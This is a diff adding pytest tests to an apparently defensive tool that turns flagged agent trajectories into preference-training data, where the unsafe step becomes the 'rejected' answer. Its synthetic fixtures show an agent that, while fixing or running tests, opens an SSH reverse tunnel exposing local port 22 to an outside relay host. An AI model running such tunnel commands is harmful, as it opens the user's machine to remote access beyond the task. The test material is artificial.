@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 from datasets import load_dataset, load_from_disk
 
-from conftest import ROOT, sample_run
+from conftest import ROOT, sample_run, tool, traj
 from safefilter.cli import main
 from safefilter.export import ExportOptions, export_run
 from safefilter.export.sampling import sample_benign
@@ -88,8 +88,47 @@ def test_prefixes_end_right_before_the_first_unsafe_message(run_dir, tmp_path):
             assert all(f["message_index"] >= row["message_index"] for f in counted)
         else:  # steps / SWE-agent: no earlier step carries a counted finding
             assert all(f["message_index"] >= row["message_index"] for f in counted)
+        # `rejected` is the unsafe action alone: one call (no prose) or one fenced block, holding evidence
+        rejected = row["rejected"][0]
+        said = rejected["content"] + "".join(c["function"]["arguments"] for c in rejected["tool_calls"])
+        assert (len(rejected["tool_calls"]) == 1 and rejected["content"] == "") or \
+            (not rejected["tool_calls"] and rejected["content"].startswith("```"))
+        first = [f for f in counted if f["message_index"] == row["message_index"] and not f.get("decoded_from")
+                 and f["field"].split(".")[-1] not in ("observation", "content")]
+        assert all(json.dumps(f["evidence"])[1:-1][:40] in said or f["evidence"][:40] in said for f in first), row["id"]
     tunnel = next(r for r in rows if r["id"] == "devops-00201")
     assert len(tunnel["prompt"]) == 6 and "-R 2222:localhost:22" in tunnel["rejected"][0]["tool_calls"][0]["function"]["arguments"]
+
+
+def test_rejected_is_the_unsafe_call_not_the_whole_message(tmp_path, monkeypatch):
+    """Prose and a benign call share the message with the tunnel: `rejected` keeps only the tunnel's
+    call; a fenced block in text is `rejected` as that block; a `steps` record as its step's call."""
+    monkeypatch.chdir(ROOT)
+    mixed = traj({"role": "assistant", "content": "Let me check the tests, then open a relay.", "tool_calls": [
+        {"id": "a", "type": "function", "function": {"name": "bash", "arguments": json.dumps({"command": "pytest -q"})}},
+        {"id": "b", "type": "function", "function": {"name": "bash", "arguments": json.dumps(
+            {"command": "ssh -N -R 9000:localhost:22 relay@198.51.100.40"})}}]},
+        tool("3 passed", "a"), tool("", "b"), rid="mixed")
+    fenced = traj({"role": "assistant", "content": "Running it:\n```bash\nssh -N -R 9000:localhost:22 "
+                                                    "relay@198.51.100.40\n```\nDone."}, rid="fenced")
+    steps = {"id": "steps", "task": "Fix the failing test", "steps": [
+        {"thought": "look around", "action": "ls -la", "observation": "a.py"},
+        {"thought": "open a relay", "action": "ssh -N -R 9000:localhost:22 relay@198.51.100.40", "observation": ""}]}
+    (tmp_path / "in.jsonl").write_text("".join(json.dumps(r) + "\n" for r in (mixed, fenced, steps)))
+    run = sample_run(tmp_path / "run", f"input={tmp_path / 'in.jsonl'}")
+    rows = {r["id"]: r for r in _export(run, "prefixes", tmp_path / "dpo")}
+    assert set(rows) == {"mixed", "fenced", "steps"}
+    m = rows["mixed"]
+    assert len(m["prompt"]) == 2 and m["prompt"][-1]["role"] == "user"  # ends right before the unsafe message
+    assert m["rejected"] == [{"role": "assistant", "content": "", "tool_call_id": None, "tool_calls": [
+        {"id": "b", "type": "function", "function": {"name": "bash", "arguments": json.dumps(
+            {"command": "ssh -N -R 9000:localhost:22 relay@198.51.100.40"})}}]}]
+    assert rows["fenced"]["rejected"][0]["content"] == "```bash\nssh -N -R 9000:localhost:22 relay@198.51.100.40\n```"
+    assert rows["fenced"]["rejected"][0]["tool_calls"] == []
+    s = rows["steps"]
+    assert [x["role"] for x in s["prompt"]] == ["user", "assistant", "tool"]  # task, step 0 and its output
+    assert s["rejected"][0]["content"] == "" and len(s["rejected"][0]["tool_calls"]) == 1
+    assert "relay@198.51.100.40" in s["rejected"][0]["tool_calls"][0]["function"]["arguments"]
 
 
 def test_trajectories_unsafe_and_optionally_clean(run_dir, tmp_path):
